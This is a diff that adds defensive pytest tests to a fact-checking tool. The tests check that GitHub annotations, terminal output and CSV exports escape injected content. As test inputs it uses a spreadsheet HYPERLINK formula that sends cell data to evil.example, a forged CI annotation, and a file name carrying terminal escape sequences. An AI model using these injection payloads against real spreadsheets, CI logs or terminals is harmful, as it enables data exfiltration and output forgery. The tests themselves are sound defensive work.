@@ -164,3 +164,64 @@ def test_two_builds_of_the_same_commit_are_byte_identical(tmp_path):
     assert sites[0].keys() == sites[1].keys()
     different = [name for name in sites[0] if sites[0][name] != sites[1][name]]
     assert different == []
+
+
+# --- Outputs that other programs interpret: CI annotations, terminals, spreadsheets. ---
+
+def _validate(repo: ScratchRepo, capsys, *arguments: str) -> tuple[int, str, str]:
+    from factcheck import cli
+
+    code = cli.main(["--root", str(repo.root), "validate", *arguments])
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+def test_github_annotations_escape_message_and_properties_as_github_specifies():
+    from factcheck.cli import github_annotation
+    from factcheck.problems import Problem
+
+    problem = Problem("claims/a,b:c.yml", 3, 1, "x:y,z", "100% wrong\r\n::error file=README.md::forged")
+    assert github_annotation(problem) == (
+        "::error file=claims/a%2Cb%3Ac.yml,line=3,col=1,title=x%3Ay%2Cz::100%25 wrong%0D%0A::error file=README.md::forged")
+
+
+def test_a_field_name_cannot_forge_an_annotation(repo: ScratchRepo, capsys):
+    repo.source("s", "A text.")
+    path = repo.claim("c1", "s", "A text", 0, 6)
+    path.write_text(path.read_text() + '"x\\n::error file=README.md,line=1::forged": 1\n', encoding="utf-8")
+    code, out, _ = _validate(repo, capsys, "--format", "github")
+    assert code == 1
+    # One annotation, on the claim's line 13: the line break in the name cannot start a second one.
+    assert out.splitlines() == [
+        "::error file=claims/s/c1.yml,line=13,col=1,title=x\\n%3A%3Aerror file=README.md%2Cline=1%3A%3Aforged::"
+        "the field name contains the control character U+000A at character 2; remove it (a field name is one line of plain words)"]
+
+
+def test_terminal_output_carries_no_control_characters(repo: ScratchRepo, capsys):
+    repo.source("s", "A text.")
+    repo.claim("c1", "s", "A text", 0, 6)
+    repo.write("claims/s/evil\x1b]0;pwned\x07\x1b[2J.yml", "id: evil\n")
+    code, out, err = _validate(repo, capsys)
+    assert code == 1 and "evil\\x1b]0;pwned\\x07\\x1b[2J.yml" in out
+    assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in out + err)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRepo, start):
+    import csv
+    import io
+
+    from factcheck.exports import export_files
+    from factcheck.publishing import SiteInfo
+
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    repo.source("s", "A text.")
+    repo.claim("c1", "s", "A text", 0, 6, claim=formula.replace("\t", " ").replace("\r", " ") if start in "\t\r" else formula,
+               summary=formula if start not in "\t\r" else "Summary.")
+    model = build_site(load_repository(repo.root))
+    rows = list(csv.DictReader(io.StringIO(export_files(model, SiteInfo("S", "https://e.org/", "P", "https://e.org/"))["claims.csv"])))
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    if start not in "\t\r":
+        assert rows[0]["claim"] == "'" + formula
